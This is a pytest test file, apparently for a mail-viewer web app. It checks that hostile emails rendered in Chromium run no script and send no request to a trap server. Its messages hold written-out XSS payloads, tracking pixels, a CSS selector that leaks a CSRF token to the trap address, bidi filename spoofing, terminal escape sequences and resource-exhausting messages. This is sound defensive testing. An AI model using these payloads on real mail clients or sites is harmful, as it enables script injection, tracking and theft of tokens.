"""Hostile mail in a real browser: nothing of it runs, no request leaves, and the page stays up.

The test watches the network of the browser: each request must go to the server of the page. A second server,
whose address the messages have, must not be asked at all.
"""

import socket
import threading
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from tests.surfaces.peers.chromium import Server, run_chromium, run_page, save_screenshot
from tests.surfaces.web.steps import join_mbox

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Dialog
    from playwright.sync_api import Page as Tab

pytestmark = pytest.mark.peers

_PATIENCE = 30_000  # milliseconds
_MARK = "window.__hostile = true"
_SCRIPT = f"<script>{_MARK}</script>"
_HANDLER = f'<img src=x onerror="{_MARK}">'


_ELEMENTS = ("script", "img", "iframe", "object", "embed", "video", "style", "link", "meta", "base")
_FOREIGN = ", ".join(f"main {one}" for one in (*_ELEMENTS, "[onerror]", "[onload]", "[style]"))


@dataclass
class Trap:
    """A server that must not be asked."""

    address: str
    visits: list[bytes] = field(default_factory=list)


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        caught = Trap(f"http://127.0.0.1:{listener.getsockname()[1]}")

        def accept() -> None:
            while True:
                try:
                    connection, _ = listener.accept()
                except OSError:
                    return
                with connection:
                    caught.visits.append(connection.recv(2000))

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield caught
        listener.shutdown(socket.SHUT_RDWR)
        thread.join(5)


def make_messages(trap: str) -> dict[str, bytes]:
    """Return hostile messages, each with a subject that the test can search for."""

    def page(name: str, body: str) -> bytes:
        head = f"Subject: {name}\nFrom: a@b.example\nContent-Type: text/html; charset=utf-8\n\n"
        return f"{head}{body}\n".encode()

    picture = f"<svg xmlns='http://www.w3.org/2000/svg'>{_SCRIPT}</svg>"
    return {
        "subject": f'Subject: subject "><{_SCRIPT}{_HANDLER}\nFrom: a@b.example\n\nb\n'.encode(),
        "header": (
            f'Subject: header\nFrom: "{_HANDLER}" <a@b.example>\nX-{_SCRIPT}: {_SCRIPT}\n'
            f"Reply-To: '\"><svg onload={_MARK}>\n{_SCRIPT}\n\nb\n"
        ).encode(),
        "token": (
            f"Subject: token\n\n{_SCRIPT} {{{{7*7}}}} {{% raw %}} ${{7*7}} {_HANDLER} </pre>{_SCRIPT}\n"
        ).encode(),
        "body": page(
            "body",
            f"{_SCRIPT}{_HANDLER}<svg onload='{_MARK}'></svg><iframe src='{trap}/f'></iframe>"
            f"<object data='{trap}/o'></object><embed src='{trap}/e'><link rel=stylesheet href='{trap}/l'>"
            f"<meta http-equiv=refresh content='0;url={trap}/m'><base href='{trap}/'><form action='{trap}/p'>"
            f"<input autofocus onfocus='{_MARK}'></form><video poster='{trap}/v'></video>visible words",
        ),
        "pixel": page("pixel", f"<img src='{trap}/pixel.gif'><img srcset='{trap}/a 1x'>text"),
        "style": page(
            "style",
            f"<style>@import '{trap}/s.css'; body{{background:url({trap}/b)}} "
            f"input[name=csrf][value^=a]{{background:url({trap}/leak)}}</style>"
            f'<p style="background:url({trap}/i);position:fixed;inset:0">cover</p>',
        ),
        "link": page(
            "link",
            f'<a href="javascript:{_MARK}">click</a> <a href="{trap}/a">there</a> javascript:{_MARK}',
        ),
        "attachment": (
            "Subject: attachment\nContent-Type: multipart/mixed; boundary=x\n\n--x\n\ntext\n--x\n"
            "Content-Type: image/svg+xml\nContent-Transfer-Encoding: base64\n"
            f"Content-Disposition: attachment; filename*=utf-8''{quote(_HANDLER)}.svg\n\n"
            f"{b64encode(picture.encode()).decode()}\n--x--\n"
        ).encode(),
        "bidi": (
            "Subject: bidi invoice\u202efdp.exe\u202c \u2066x\u2069\n"
            "From: a\u202eb <a@b.example>\n\n\u202etxet\n"
        ).encode(),
        "controls": (
            b"Subject: controls \x07\x1b[31m\x00 =?utf-8?q?=1B=00=0D=0Aadded?=\n\n"
            b"\x1b]0;owned\x07 \x00 \x85\n"
        ),
        "huge": (
            b"Subject: huge\nTo: "
            + b", ".join(b"u%d@many.example" % number for number in range(100_000))
            + b"\n\n"
            + b"word " * 4_000_000
        ),
        "wide": b"Subject: wide " + b"w" * 100_000 + b"\n\n" + b"x" * 2_000_000,
        "deep": page("deep", "<div>" * 50_000 + "deep text"),
        "fields": b"Subject: fields\n" + b"".join(b"X-%d: y\n" % n for n in range(20_000)) + b"\nb\n",
        "parts": (
            b"Subject: parts\nContent-Type: multipart/mixed; boundary=x\n\n"
            + b"--x\n\npart\n" * 5_000
            + b"--x--\n"
        ),
    }


NAMES = [*make_messages("http://trap.example")]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, trap: Trap) -> Iterator[Server]:
    folder = Path(tmp_path_factory.mktemp("hostile"))
    path = folder / f"mail {_HANDLER.replace('/', '')}.mbox"
    path.write_bytes(join_mbox(make_messages(trap.address).values()))
    with run_page(folder, folder / "mail.tamis", "--mail", str(path)) as running:
        yield running


@pytest.fixture(scope="module")
def tab(server: Server) -> Iterator["Tab"]:
    with run_chromium() as browser:
        yield from open_tab(browser, server)


def open_tab(browser: "Browser", server: Server) -> Iterator["Tab"]:
    """Open a tab whose requests are watched; at the end, all must have gone to the server of the page."""
    context = browser.new_context(viewport={"width": 1100, "height": 800})
    context.set_default_timeout(_PATIENCE)
    opened = context.new_page()
    requests: list[str] = []
    dialogs: list[str] = []
    opened.on("request", lambda request: requests.append(request.url))

    def dismiss(dialog: "Dialog") -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    opened.on("dialog", dismiss)
    opened.goto(server.address)
    while f"all {len(NAMES)}" not in opened.inner_text("nav.tabs"):
        opened.wait_for_timeout(100)
        opened.reload()
    yield opened
    strange = [url for url in requests if not url.startswith((f"{server.root}/", "data:"))]
    assert not strange
    assert not dialogs
    context.close()


@pytest.mark.parametrize("name", NAMES)
def test_nothing_of_a_hostile_message_runs(tab: "Tab", server: Server, trap: Trap, name: str) -> None:
    tab.goto(f"{server.root}/?text={name}")
    assert tab.evaluate("window.__hostile") is None
    tab.locator("a.subject").first.click()
    tab.wait_for_selector("#similar-list, #similar-state:not(:has-text('Looking'))")
    assert tab.url.startswith(f"{server.root}/messages/")
    for summary in tab.locator("main details > summary").all():
        summary.click()
    tab.wait_for_timeout(50)
    assert tab.evaluate("window.__hostile") is None
    assert not trap.visits
    # No element of the message is an element of the page.
    assert tab.locator(_FOREIGN).count() == 0
    assert tab.locator(f"main a[href^='javascript:'], a[href^='{trap.address}']").count() == 0
    assert tab.evaluate("document.documentElement.scrollWidth") <= 1100
    # The text is bounded, and characters that deceive are visible.
    text = tab.inner_text("main")
    assert len(text) < 200_000
    assert not set(text) & {chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 7, 27, 0)}
    save_screenshot(tab, f"hostile-{name}")
    # The page still acts.
    tab.get_by_role("button", name="Spam", exact=True).click()
    tab.wait_for_selector("text=1 message learned as spam.")
    tab.get_by_role("button", name="Undo").click()
    tab.wait_for_selector("text=1 event is undone.")


def test_marks_stand_for_characters_that_deceive(tab: "Tab", server: Server) -> None:
    tab.goto(f"{server.root}/?text=invoice")
    tab.locator("a.subject").first.click()
    assert "⟨U+202E⟩txet" in tab.inner_text("pre.text")


def test_the_policy_of_the_page_blocks_what_slips_through(tab: "Tab", server: Server, trap: Trap) -> None:
    """Even if markup of a message became part of the page, its scripts, styles and requests are blocked."""
    other = tab.context.new_page()
    other.goto(f"{server.root}/")
    other.evaluate(
        """([script, trap]) => {
            const box = document.createElement("div");
            box.innerHTML = `<img src="${trap}/x" onerror="${script}">`
                + `<p style="background:url(${trap}/y)">x</p>`
                + `<iframe src="${trap}/z"></iframe><style>@import '${trap}/s'</style>`;
            document.body.append(box);
            const element = document.createElement("script");
            element.textContent = script;
            document.body.append(element);
        }""",
        [_MARK, trap.address],
    )
    other.wait_for_timeout(300)
    assert other.evaluate("window.__hostile") is None
    assert not trap.visits
    other.close()
